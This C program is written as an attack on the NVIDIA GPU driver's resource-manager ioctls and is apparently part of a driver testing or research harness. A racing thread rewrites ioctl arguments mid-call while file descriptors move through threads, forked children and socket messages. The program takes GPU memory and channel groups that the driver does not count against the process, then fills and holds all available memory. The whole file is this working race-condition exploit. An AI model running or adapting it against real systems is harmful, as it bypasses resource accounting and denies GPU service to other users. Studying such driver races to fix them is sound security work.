/* One attack, composed of three choices: which call is made, how its arguments race with it, and through
 * which file and process. Usage: composed CALL RACE PASSING SEED. It makes the call some times over, lets go
 * of what it had been charged for, and takes all the memory that it is given; a line "round N" after each,
 * and "done" at the end, when it stands still with all that it has. "bad" for an unknown word. */
#include "../gpu.h"
#include <pthread.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>

enum {
    ROUNDS = 6,
    DEATHS = 2,
    GROUPS = 3,
    FD = 90,
    FILL = 0x4000,
    FILL_MAX = 4096,
    RACED = 0x2000,
    CLOSED_MIB = 256
};

static struct gpu g;
static uint64_t seed;
static uint32_t raced_handle = RACED;

/* What a call is at first, and what another thread makes of it. The words that differ lie at `at`. */
static _Alignas(64) union {
    struct rm_alloc alloc;
    struct rm_alloc_memory pages;
    struct rm_heap heap;
} turned, honest;
/* Where no other program has anything. */
static volatile uint8_t *const call = (volatile uint8_t *)0x700000000;
static _Alignas(64) struct rm_memory memory;
static _Alignas(4096) uint8_t own_pages[1 << 16];
static volatile bool racing;

static void root_client(void)
{
    static const uint32_t classes[] = {NV01_MEMORY_LOCAL_USER, NV01_MEMORY_LOCAL_USER, NV50_MEMORY_VIRTUAL,
                                       KEPLER_CHANNEL_GROUP_A, NV01_ROOT_CLIENT};

    honest.alloc = (struct rm_alloc){.class_id = NV01_ROOT_CLIENT, .params = (uintptr_t)&memory};
    turned.alloc = honest.alloc;
    turned.alloc.root = g.client;
    turned.alloc.parent = DEVICE;
    turned.alloc.handle = raced_handle++;
    turned.alloc.class_id = classes[below(&seed, sizeof(classes) / sizeof(*classes))];
    turned.alloc.params_size = sizeof(memory);
}

/* What takes memory of the card and is no memory that the driver counts for a process. */
static void turned_into_context(void)
{
    static struct rm_channel_group group = {.engine_type = RM_ENGINE_GRAPHICS};

    root_client();
    turned.alloc.class_id = KEPLER_CHANNEL_GROUP_A;
    turned.alloc.params = (uintptr_t)&group;
    turned.alloc.params_size = sizeof(group);
}

static void own_memory(void)
{
    honest.pages = (struct rm_alloc_memory){
        .root = g.client,
        .parent = DEVICE,
        .handle = raced_handle++,
        .class_id = NV01_MEMORY_SYSTEM_OS_DESCRIPTOR,
        .flags = 0x40001010,
        .memory = (uintptr_t)own_pages,
        .limit = sizeof(own_pages) - 1,
        .fd = -1,
    };
    turned = honest;
    turned.pages.class_id = NV01_MEMORY_LOCAL_USER;
    turned.pages.limit = memory.size - 1;
}

static void heap_pages(void)
{
    memset(&honest, 0, sizeof(honest));
    honest.heap.root = g.client;
    honest.heap.parent = DEVICE;
    honest.heap.function = RM_HEAP_OS_DESCRIPTOR;
    honest.heap.any.handle = raced_handle++;
    turned = honest;
    turned.heap.function = below(&seed, 2) ? RM_HEAP_ALLOC_SIZE : RM_HEAP_FREE;
    turned.heap.by_size.owner = OWNER;
    turned.heap.by_size.flags = RM_HEAP_HANDLE_PROVIDED;
    turned.heap.by_size.size = memory.size;
}

static void plain_memory(void)
{
    honest.alloc = (struct rm_alloc){
        .root = g.client,
        .parent = DEVICE,
        .handle = raced_handle++,
        .class_id = NV01_MEMORY_LOCAL_USER,
        .params = (uintptr_t)&memory,
        .params_size = sizeof(memory),
    };
    turned = honest;
    turned.alloc.class_id = NV50_MEMORY_VIRTUAL;
}

static const struct kind {
    const char *name;
    void (*prepare)(void);
    uint32_t nr, bytes;
    bool on_card;
} kinds[] = {
    {"client", root_client, NV_ESC_RM_ALLOC, sizeof(struct rm_alloc), false},
    {"context", turned_into_context, NV_ESC_RM_ALLOC, sizeof(struct rm_alloc), false},
    {"pages", own_memory, NV_ESC_RM_ALLOC_MEMORY, sizeof(struct rm_alloc_memory), true},
    {"heap", heap_pages, NV_ESC_RM_VID_HEAP_CONTROL, sizeof(struct rm_heap), false},
    {"memory", plain_memory, NV_ESC_RM_ALLOC, sizeof(struct rm_alloc), false},
};

static const struct kind *kind;
static int file; /* that the call is made on at first */

static void put(const void *from)
{
    for (uint32_t i = 0; i < kind->bytes; i++)
        call[i] = ((const uint8_t *)from)[i];
}

static void *no_race(void *arg)
{
    return arg;
}

static void *to_and_fro(void *arg)
{
    for (unsigned int i = 0; racing; i++)
        put(i % 2 ? &turned : &honest);
    return arg;
}

static void *late(void *arg)
{
    usleep(100 + below(&seed, 800));
    put(&turned);
    return arg;
}

/* And the file: it may have none of the clients that the arguments name by then. */
static void *other_file(void *arg)
{
    usleep(100 + below(&seed, 800));
    put(&turned);
    dup2(g.ctl, FD);
    return arg;
}

static const struct race {
    const char *name;
    void *(*run)(void *);
} races[] = {{"none", no_race}, {"to-and-fro", to_and_fro}, {"late", late}, {"other-file", other_file}};

static void make_call(void)
{
    ioctl(FD, RM_CMD(kind->nr, kind->bytes), call);
}

static void *in_thread(void *arg)
{
    make_call();
    return arg;
}

static void by_itself(void)
{
    make_call();
}

static void by_a_thread(void)
{
    pthread_t thread;

    must(!pthread_create(&thread, NULL, in_thread, NULL), "thread");
    pthread_join(thread, NULL);
}

/* The child's memory is its own: what changes there is the file alone. */
static void by_a_child(void)
{
    pid_t child = fork();

    if (!child) {
        put(&turned);
        make_call();
        _exit(0);
    }
    waitpid(child, NULL, 0);
}

/* It is killed at a call. The line says where its arguments are, and an answer would be written. */
static void by_a_mortal(void)
{
    for (int i = 0; i < DEATHS; i++) {
        pid_t child = fork();

        if (!child)
            prctl(PR_SET_PDEATHSIG, SIGKILL);
        while (!child) {
            put(&honest);
            make_call();
        }
        say("mortal %lu", (unsigned long)(uintptr_t)call);
        waitpid(child, NULL, 0);
    }
}

/* The file is in a message and nowhere else before the call is made. */
static void by_a_message(void)
{
    char room[CMSG_SPACE(sizeof(int))] = {0}, byte = 0;
    struct iovec iov = {&byte, 1};
    struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof(room)};
    struct cmsghdr *h = CMSG_FIRSTHDR(&m);
    int pair[2], fd = FD;

    h->cmsg_level = SOL_SOCKET;
    h->cmsg_type = SCM_RIGHTS;
    h->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(h), &fd, sizeof(fd));
    must(!socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) && sendmsg(pair[0], &m, 0) == 1, "message");
    close(FD);
    must(recvmsg(pair[1], &m, 0) == 1, "message");
    memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof(fd));
    dup2(fd, FD);
    close(fd);
    close(pair[0]);
    close(pair[1]);
    make_call();
}

static const struct passing {
    const char *name;
    void (*call)(void);
} passings[] = {
    {"itself", by_itself},     {"thread", by_a_thread}, {"child", by_a_child},
    {"message", by_a_message}, {"mortal", by_a_mortal},
};

#define FIND(table, word)                                         \
    for (size_t i = 0; i < sizeof(table) / sizeof(*(table)); i++) \
        if (!strcmp((table)[i].name, word))                       \
            found++, (word##_is) = &(table)[i];

static void attack(const struct race *race, const struct passing *passing)
{
    pthread_t thread;

    memory = (struct rm_memory){.owner = OWNER, .size = (64 + 64ull * below(&seed, 8)) * MIB};
    kind->prepare();
    put(&honest);
    file = kind->on_card ? g.card : below(&seed, 2) ? g.ctl : open_node("/dev/nvidiactl");
    dup2(file, FD);
    racing = true;
    must(!pthread_create(&thread, NULL, race->run, NULL), "thread");
    passing->call();
    racing = false;
    pthread_join(thread, NULL);
    if (file != g.ctl && file != g.card && below(&seed, 2))
        close(file);
}

/* All that it is given. */
static void fill(void)
{
    uint32_t handle = FILL;
    uint64_t bytes = 64 * MIB;

    for (; bytes >= MIB && handle < FILL + FILL_MAX; handle++)
        if (rm_memory(g.ctl, g.client, handle, bytes) != NV_OK)
            bytes /= 2;
}

static void give_back(void)
{
    for (uint32_t handle = FILL; handle < FILL + FILL_MAX / 16; handle++)
        rm_free(g.ctl, g.client, handle);
}

int main(int argc, char **argv)
{
    const char *names = argc > 4 ? argv[1] : "", *racer = argc > 4 ? argv[2] : "",
               *way = argc > 4 ? argv[3] : "";
    const struct race *racer_is = NULL;
    const struct passing *way_is = NULL;
    const struct kind *names_is = NULL;
    struct work work[GROUPS];
    int found = 0;

    FIND(kinds, names)
    FIND(races, racer)
    FIND(passings, way)
    if (found != 3) {
        say("bad");
        return 2;
    }
    kind = names_is;
    seed = strtoull(argv[4], NULL, 0) | 1;
    must(mmap((void *)(uintptr_t)call, sizeof(honest), PROT_READ | PROT_WRITE,
              MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == (void *)(uintptr_t)call,
         "place");
    gpu_open(&g);
    say("client %u", g.client);
    for (uint32_t n = 0; n < ROUNDS; n++) {
        uint32_t other = 0;
        int closed = open_client(&other);
        bool groups = below(&seed, 2);

        /* What it is charged for, and lets go of when the race is over. */
        for (uint32_t i = 0; groups && i < GROUPS; i++)
            work_make(&g, &work[i], 0x100 + 16 * i);
        rm_memory(closed, other, FIRST_MEMORY, CLOSED_MIB * (uint64_t)MIB);
        attack(racer_is, way_is);
        if (below(&seed, 2))
            rm_memory(g.ctl, g.client, FIRST_MEMORY, 65536);
        close(closed);
        for (uint32_t i = 0; groups && i < GROUPS; i++)
            rm_free(g.ctl, g.client, 0x100 + 16 * i);
        fill();
        say("round %u", n);
        give_back();
    }
    fill();
    say("done");
    hold();
}
